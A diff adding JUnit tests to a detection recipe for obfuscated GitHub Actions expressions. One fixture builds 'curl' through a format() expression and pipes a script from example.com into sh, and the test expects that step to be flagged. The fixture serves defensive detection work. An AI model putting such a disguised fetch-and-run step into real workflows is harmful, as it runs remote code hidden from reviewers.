@@ -245,6 +245,53 @@ class ObfuscationTest implements RewriteTest {
         );
     }
 
+    @Test
+    void shouldFlagExpressionsThatAlwaysEvaluateTheSame() {
+        rewriteRun(
+          yaml(
+            """
+              name: Test Workflow
+              on: push
+              jobs:
+                test:
+                  runs-on: ubuntu-latest
+                  steps:
+                    - run: ${{ format('{0}{1}', 'cu', 'rl') }} https://example.com/install.sh | sh
+              """,
+            """
+              name: Test Workflow
+              on: push
+              jobs:
+                test:
+                  runs-on: ubuntu-latest
+                  steps:
+                    - ~~(Contains potentially obfuscated GitHub Actions expressions that may be attempting to hide malicious code.)~~>run: ${{ format('{0}{1}', 'cu', 'rl') }} https://example.com/install.sh | sh
+              """,
+            sourceSpecs -> sourceSpecs.path(".github/workflows/test.yml")
+          )
+        );
+    }
+
+    @Test
+    void shouldNotFlagEmptyShellStrings() {
+        rewriteRun(
+          yaml(
+            """
+              name: Test Workflow
+              on: push
+              jobs:
+                test:
+                  runs-on: ubuntu-latest
+                  steps:
+                    - run: |
+                        echo ""
+                        test -z '' && echo "${{ hashFiles('**/package-lock.json') }}"
+              """,
+            sourceSpecs -> sourceSpecs.path(".github/workflows/test.yml")
+          )
+        );
+    }
+
     @Test
     void shouldIgnoreNonWorkflowFiles() {
         rewriteRun(